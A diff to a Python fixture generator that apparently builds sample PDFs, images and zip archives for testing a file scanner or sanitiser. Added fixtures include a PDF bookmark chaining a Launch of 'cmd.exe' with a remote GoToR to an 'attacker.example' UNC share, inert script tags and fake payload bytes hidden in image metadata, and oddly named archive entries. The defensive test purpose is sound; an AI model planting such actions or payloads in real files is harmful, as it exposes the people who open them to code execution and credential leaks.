@@ -105,7 +105,30 @@ def make_pdfs(out: Path) -> None:
     def submit(pdf: pikepdf.Pdf) -> None:
         add_link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://example.com/c")))
 
-    for trait, mutate in (("javascript", javascript), ("launch", launch), ("uri-link", uri),
+    def outline(pdf: pikepdf.Pdf) -> None:
+        # two bookmarks; the second chains GoTo -> Launch -> GoToR, with no /Type on the actions
+        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
+        remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\attacker.example\\share\\x.pdf"),
+                                    D=pikepdf.Array([0, pikepdf.Name.Fit]))
+        first = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("はじめに"),
+                                                     Dest=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])))
+        second = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("資料"), A=pikepdf.Dictionary(
+            S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
+            Next=pikepdf.Array([launch, remote]))))
+        outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=first, Last=second, Count=2))
+        for item, prev, nxt in ((first, None, second), (second, first, None)):
+            item.Parent = outlines
+            if prev is not None:
+                item.Prev = prev
+            if nxt is not None:
+                item.Next = nxt
+        pdf.Root.Outlines = outlines
+
+    def bookmarks(pdf: pikepdf.Pdf) -> None:
+        outline(pdf)
+        del pdf.Root.Outlines.Last.A
+
+    for trait, mutate in (("outline-launch", outline), ("bookmarks", bookmarks), ("javascript", javascript), ("launch", launch), ("uri-link", uri),
                           ("embedded-file", embedded), ("xfa", xfa), ("submitform", submit)):
         pdf_with(out / f"pdf-{trait}.pdf", clean, mutate)
     with pikepdf.open(clean) as pdf:
@@ -127,6 +150,10 @@ def make_images(out: Path) -> None:
     exif[0x8825] = {2: (35.0, 41.0, 0.0)}  # GPS latitude
     photo.save(out / "jpeg-exif.jpg", "JPEG", quality=90, exif=exif)
     photo.save(out / "png-clean.png")
+    payload = b"MZ-PAYLOAD<script>alert('sample')</script>" * 20
+    photo.save(out / "png-icc-payload.png", icc_profile=payload)
+    photo.save(out / "jpeg-comment.jpg", quality=90, comment=b"<script>alert('sample')</script>")
+    photo.save(out / "tiff-photoshop.tif", tiffinfo={34377: payload, 33723: payload})
     meta = io.BytesIO()
     from PIL import PngImagePlugin
 
@@ -207,6 +234,9 @@ def make_archives(out: Path) -> None:
         archive.writestr("readme.txt", "読んでください\n")
         archive.writestr("invoice.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68)
         archive.writestr("run.js", "WScript.Echo('sample');")
+    with zipfile.ZipFile(out / "zip-case-names.zip", "w") as archive:
+        for name in ("Docs/a.txt", "docs/a.txt", "b.txt", "B.TXT/c.txt", "-見積書.txt"):
+            archive.writestr(name, f"{name}\n")
     with zipfile.ZipFile(out / "zip-only-exe.zip", "w") as archive:
         archive.writestr("setup.exe", INERT_PE)
     inner = io.BytesIO()
